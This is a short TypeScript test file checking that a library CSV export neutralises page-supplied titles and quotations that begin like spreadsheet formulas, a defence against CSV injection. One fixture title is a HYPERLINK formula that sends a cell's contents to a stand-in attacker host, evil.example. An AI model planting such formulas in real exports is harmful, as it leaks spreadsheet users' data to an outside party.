/**
 * Page-supplied text in the library CSV must not become a spreadsheet formula.
 */
import { describe, expect, it } from 'vitest';
import { libraryToCsv } from '../../../lib/library/export';
import { buildLibrary } from '../../../lib/library/model';
import { libPage } from './fixtures';

describe('libraryToCsv', () => {
  it('neutralises a quotation or title that starts like a formula', () => {
    const page = libPage([['Antony Blinken']], {
      title: '=HYPERLINK("https://evil.example/?"&A2,"Click")',
      quotes: [['Antony Blinken', '=1+2', 'person']],
    });
    const csv = libraryToCsv(buildLibrary([page]));
    const row = csv.split('\r\n')[1] as string;
    // No field of the row may start with = + - @ (OWASP "CSV injection").
    expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
  });
});
